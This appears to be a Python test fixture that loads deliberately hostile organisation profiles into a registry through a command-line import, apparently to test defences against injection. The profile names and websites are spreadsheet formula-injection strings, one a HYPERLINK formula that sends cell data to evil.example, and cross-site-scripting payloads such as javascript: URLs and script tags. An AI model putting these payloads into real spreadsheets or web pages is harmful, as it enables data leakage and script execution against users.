"""A small registry of hostile organisation profiles, as a hostile trial imported them: names
that spreadsheets would run as formulas and websites that browsers would run as scripts.

Every profile is about "robotics education", so that an idea search finds them all.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner

from cli.main import cli

#: (name, country, website) of each profile; the description is the same for all.
PROFILES: list[tuple[str, str, str]] = [
    ('=HYPERLINK("http://evil.example/?x="&A1)', "FI", "javascript:alert(1)"),
    ("+SUM(1+1) robotics", "FI", "JaVaScRiPt:alert(2)"),
    ("-2+3 robotics", "SE", " javascript:alert(3)"),
    ("@SUM(A1) robotics", "SE", "data:text/html,<script>alert(4)</script>"),
    ("Visual robotics ry", "DE", "vbscript:msgbox(5)"),
    ("Plain robotics ry", "FI", "www.example.org"),
    ("Secure robotics ry", "FI", "HTTPS://Example.org/path?a=1&b=2"),
    ("Old robotics ry", "DE", "http://old.example"),
    ('<script>alert("name")</script> robotics', "DE", '"><script>alert(6)</script>'),
    ("Reversed \u202eyr scitobor\u202c robotics", "FI", "http://reversed.example"),
]
DESCRIPTION = "robotics education for schools"
#: The names above that a spreadsheet would read as a formula (an import keeps no leading tab).
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+SUM(1+1) robotics",
            "-2+3 robotics", "@SUM(A1) robotics"]


def profiles_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["name", "country", "type", "website", "description"])
    for name, country, website in PROFILES:
        writer.writerow([name, country, "NGO", website, DESCRIPTION])
    return out.getvalue()


def hostile_registry(folder: Path) -> str:
    """An SQLite registry in ``folder`` holding :data:`PROFILES`; returns its URL."""
    url = f"sqlite:///{folder / 'hostile.sqlite'}"
    source = folder / "hostile.csv"
    source.write_text(profiles_csv(), encoding="utf-8")
    result = CliRunner().invoke(cli, ["-q", "--db", url, "import", "orgs", str(source)])
    assert result.exit_code == 0, result.output
    return url
